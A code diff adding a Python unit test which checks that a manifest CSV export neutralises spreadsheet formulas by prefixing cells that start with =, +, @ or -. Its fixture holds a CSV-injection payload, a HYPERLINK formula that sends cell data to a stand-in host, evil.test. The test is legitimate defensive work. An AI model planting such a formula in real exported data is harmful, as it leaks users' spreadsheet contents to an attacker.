@@ -180,3 +180,16 @@ def test_the_csv_export_has_every_field_of_a_manifest_record(tmp_path: Path) -> 
     rows = list(csv.DictReader(io.StringIO(manifest_csv(tmp_path))))
     assert set(rows[0]) == set(written)
     assert rows[0]["replaces"] == "e" * 64
+
+
+def test_the_csv_export_gives_a_spreadsheet_no_formula_from_a_page(tmp_path: Path) -> None:
+    # The words and names are what pages and servers wrote; opened in a spreadsheet, an alt text
+    # "=HYPERLINK(...)" was a formula that sends data away (CSV injection).
+    records = [{"url": "http://a.test/x.png", "alt": '=HYPERLINK("http://evil.test/?"&A1,"x")', "title": "+1",
+                "caption": "@SUM(A1)", "name": "-x.png", "pages": 2, "width": 10},
+               {"url": "http://a.test/y.png", "alt": "A calm sea", "caption": "1 = 1", "pages": 1}]
+    (tmp_path / "manifest.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
+    rows = list(csv.DictReader(io.StringIO(manifest_csv(tmp_path))))
+    assert [(r["alt"], r["title"], r["caption"], r["name"], r["pages"]) for r in rows] == [
+        ("'=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")", "'+1", "'@SUM(A1)", "'-x.png", "2"),
+        ("A calm sea", "", "1 = 1", "", "1")]
